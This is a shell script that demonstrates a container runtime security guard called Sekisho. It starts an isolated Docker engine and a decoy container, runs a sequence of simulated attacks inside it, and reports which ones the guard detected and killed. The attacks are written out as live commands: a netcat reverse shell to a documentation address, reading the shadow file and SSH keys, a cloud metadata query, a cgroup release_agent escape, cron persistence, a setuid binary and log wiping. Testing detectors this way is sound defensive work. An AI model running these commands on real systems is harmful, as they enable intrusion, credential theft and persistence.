#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A container attacks, the guard answers. On a fresh Debian, as root:
#
#	tools/demo-guard.sh
#
# installs what is needed, builds, starts a Docker engine of its own and a guard
# with the rules that ship with Sekisho, does one attack after the other in a
# container, and shows beside each what the guard said. Nothing of it stays but
# the packages and the build. SK_BUILD is the folder of the build (default:
# build-release here).
set -eu
top=$(cd "$(dirname "$0")/.." && pwd)
. "$top/tools/packages.sh"
build=${SK_BUILD:-$top/build-release}

[ "$(id -u)" = 0 ] || { echo "The guard watches the kernel: this needs root." >&2; exit 1; }
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
	bold=$(printf '\033[1m') red=$(printf '\033[31m') green=$(printf '\033[32m') dim=$(printf '\033[2m') off=$(printf '\033[0m')
else
	bold='' red='' green='' dim='' off=''
fi

say() {
	printf '\n%s== %s%s\n' "$bold" "$*" "$off"
}

dir=$(cd "$(mktemp -d)" && pwd -P)
guard='' engine=''
clean() {
	[ -z "$guard" ] || kill "$guard" 2>/dev/null || true
	if [ -n "$engine" ]; then
		docker rm -f shop >/dev/null 2>&1 || true
		kill "$engine" 2>/dev/null || true
	fi
	wait 2>/dev/null || true
	rm -rf "$dir"
}
trap clean EXIT
trap 'exit 1' INT TERM

# until_true COMMAND...: a slow machine may take its time
until_true() {
	for _ in $(seq 300); do
		"$@" && return 0
		sleep 0.2
	done
	return 1
}

start_engine() {
	export DOCKER_HOST="unix://$dir/docker.sock"
	dockerd --iptables=false --ip6tables=false --bridge=none --data-root "$dir/data" --exec-root "$dir/exec" \
		--pidfile "$dir/pid" -H "$DOCKER_HOST" >"$dir/docker-log" 2>&1 &
	engine=$!
	answers() { docker version >/dev/null 2>&1 || ! kill -0 "$engine" 2>/dev/null; }
	until_true answers
	docker version >/dev/null 2>&1 || { echo "dockerd did not start: $(tail -n 1 "$dir/docker-log")" >&2; exit 1; }
}

# The image: a shell and small tools, and the files that attackers look for.
make_image() {
	root=$dir/root
	mkdir -p "$root/bin" "$root/etc" "$root/tmp" "$root/dev" "$root/proc" "$root/sys" "$root/root/.ssh" "$root/var/log"
	for part in /bin/sh $(ldd /bin/sh | grep -oE '/[^ ]+'); do
		mkdir -p "$root$(dirname "$part")"
		cp -L "$part" "$root$part"
	done
	cp "$(command -v busybox)" "$root/bin/busybox"
	for applet in $(busybox --list); do
		[ -e "$root/bin/$applet" ] || ln -s busybox "$root/bin/$applet"
	done
	echo 'root:x:0:0:root:/root:/bin/sh' >"$root/etc/passwd"
	echo 'root:$6$secret:19000:0:99999:7:::' >"$root/etc/shadow"
	echo 'a private key' >"$root/root/.ssh/id_ed25519"
	echo 'who did what' >"$root/var/log/auth.log"
	tar -C "$root" -c . | docker import - shop:1.0 >/dev/null
}

start_guard() {
	mkdir -p "$dir/rules" "$dir/state" "$dir/run"
	chmod 700 "$dir/state" "$dir/run"
	cp "$top"/rules/runtime/*.yaml "$dir/rules"
	configure >"$dir/guard.yaml"
	"$sekisho" guard run --config "$dir/guard.yaml" --rules "$dir/rules" --all -f json >"$dir/alerts" 2>"$dir/guard-log" &
	guard=$!
	ready() { grep -q watching "$dir/guard-log" || ! kill -0 "$guard" 2>/dev/null; }
	until_true ready
	kill -0 "$guard" 2>/dev/null || { echo "The guard does not run here:" >&2; cat "$dir/guard-log" >&2; exit 1; }
}

# The alerts about our container from that line on, one a line: priority, rule, technique of ATT&CK.
alerts_from() {
	tail -n "+$1" "$dir/alerts" | jq -r 'select(.message and .container.name == "shop") |
		[.priority, .rule, (.tags | map(select(test("^T[0-9]"))) | join(" "))] | @tsv'
}

# What was done about them.
answers_from() {
	tail -n "+$1" "$dir/alerts" | jq -r 'select(.type == "response" and .container.name == "shop") |
		[.action, .outcome, (.microseconds / 1000 | tostring)] | @tsv'
}

attacks=0 seen=0 stopped=0
# attack WHAT COMMAND [OPTION...]: does it in the container, and shows what the guard said of it
attack() {
	what=$1 command=$2
	shift 2
	attacks=$((attacks + 1))
	from=$(($(wc -l <"$dir/alerts") + 1))
	printf '\n%s%d. %s%s\n   %s$ %s%s\n' "$bold" "$attacks" "$what" "$off" "$dim" "$command" "$off"
	docker exec "$@" shop /bin/sh -c "$command" </dev/null >"$dir/said" 2>&1 || true
	sed -n '1s/^/   /p' "$dir/said"
	told() { [ -n "$(alerts_from "$from")" ]; }
	for _ in $(seq 50); do
		told && break
		sleep 0.1
	done
	sleep 0.5
	if ! told; then
		printf '   the guard said nothing\n'
		return
	fi
	seen=$((seen + 1))
	tab=$(printf '\t')
	alerts_from "$from" | sort -u -t "$tab" -k2,2 | while IFS=$tab read -r priority rule technique; do
		printf '   %s%-8s %s%s  %s%s%s\n' "$red" "$priority" "$rule" "$off" "$dim" "$technique" "$off"
	done
	answers_from "$from" | sort -u -t "$tab" -k1,2 | while IFS=$tab read -r action outcome milliseconds; do
		printf '   %s%s: %s, after %s ms%s\n' "$green" "$action" "$outcome" "$milliseconds" "$off"
	done
	if [ -n "$(answers_from "$from")" ]; then
		stopped=$((stopped + 1))
	fi
}

say "What is needed"
# shellcheck disable=SC2086 # a list of words
need $packages_build $packages_demo

say "Build"
[ -f "$build/build.ninja" ] || meson setup --buildtype=release "$build" "$top" >/dev/null
ninja --quiet -C "$build" src/cmd/sekisho
sekisho=$build/src/cmd/sekisho

configure() {
	cat <<-END
		state: $dir/state
		runtime: $dir/run
		outputs:
		  - kind: stdout
		    format: json
		drift:
		  mode: block
		responses:
		  docker: $dir/docker.sock
		  entries:
		    - priority: critical
		      actions: [kill-tree]
		      limit: 100/1m
	END
}

say "A Docker engine of our own, and an image for a shop"
start_engine
make_image
echo "shop:1.0, $(docker image inspect -f '{{.Size}}' shop:1.0) bytes"

say "The guard: $(cat "$top"/rules/runtime/*.yaml | grep -c '^- rule:') rules"
start_guard
cat "$dir/guard-log"
docker run -d --name shop --network none --cap-add SYS_ADMIN --cap-add NET_ADMIN shop:1.0 /bin/sh -c \
	'ip addr add 203.0.113.1/24 dev lo; ip addr add 169.254.169.254/32 dev lo; ip route add default dev lo; while :; do nc -l -p 80 </dev/null; done' >/dev/null ||
	{ echo "containers do not run here" >&2; exit 1; }

say "Somebody has broken into the shop"
attack "Reads the password hashes" 'cat /etc/shadow >/dev/null'
attack "Looks for private keys, and takes one" 'find / -xdev -name "id_*" -path "*ssh*"; cat /root/.ssh/id_ed25519 >/dev/null'
attack "Brings a program of his own and runs it" '{ cat /bin/sh; echo; } >/tmp/update; chmod 755 /tmp/update; /tmp/update -c "echo it runs"'
attack "Lets a shell call home" 'nc 203.0.113.66 4444 -e /bin/sh'
attack "Joins a mining pool" 'nc -w 1 203.0.113.99 14444 </dev/null; /bin/echo -o stratum+tcp://pool.example.com:14444'
attack "Asks the cloud for the node's credentials" 'wget -q -O - http://169.254.169.254/latest/meta-data/'
attack "Tries to leave by the release agent of cgroups" 'mkdir -p /tmp/cgroup; echo /tmp/update >/tmp/cgroup/release_agent'
attack "Mounts what it likes" 'mkdir -p /tmp/m; mount -t tmpfs none /tmp/m'
attack "Comes back with the next start" 'mkdir -p /etc/cron.d; echo "* * * * * root /tmp/update" >/etc/cron.d/update'
attack "Makes a program that gives root to everybody" 'cp /bin/busybox /tmp/suid; chmod 4755 /tmp/suid'
attack "Wipes the traces" 'rm /var/log/auth.log; : >/root/.ash_history'

say "Summary"
kill "$guard" && wait "$guard" || true
guard=''
sed 's/^/guard: /' "$dir/guard-log" | tail -n 2
printf '%d attacks, %d seen, %d answered\n' "$attacks" "$seen" "$stopped"
[ "$seen" = "$attacks" ]
